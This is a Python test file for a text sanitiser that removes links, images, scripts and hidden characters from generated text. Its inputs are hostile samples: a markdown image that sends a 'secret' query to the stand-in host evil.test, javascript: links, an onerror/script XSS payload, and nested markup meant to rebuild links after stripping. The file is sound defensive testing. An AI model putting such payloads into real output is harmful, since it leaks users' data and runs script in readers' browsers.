"""Nothing that acts is left in generated text."""

import pytest

from extrabrain.advice.plain import plain


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("![chart](https://evil.test/p.png?d=secret) done", "chart done"),
        ("[press here](https://evil.test) now", "press here now"),
        ("[press here](javascript:alert(1)) now", "press here now"),
        ("see https://evil.test/x?y=z and www.evil.test", "see [address removed] and [address removed]"),
        ("<img src=x onerror=alert(1)>hello<script>x</script>", "hellox"),
        ("[1]: https://evil.test\nfine", "fine"),
        ("a\u202eb\u200bc\x00d", "abcd"),
        ("mail mailto:a@b.test", "mail [address removed]"),
        ("Say [how many users?] there were.", "Say [how many users?] there were."),
    ],
)
def test_only_words_are_left(raw: str, shown: str) -> None:
    assert plain(raw) == shown


@pytest.mark.parametrize("piece", ["http:", "https:", "<", "!["])
def test_taking_out_never_makes_a_new_one(piece: str) -> None:
    nested = (
        "h<b>ttps://evil.test</b> !<i>[</i>x](https://evil.test) [[a](https://b.test)](https://evil.test)"
    )
    nested += f" {piece}"
    shown = plain(nested)
    assert "evil.test" not in shown
    assert "](" not in shown
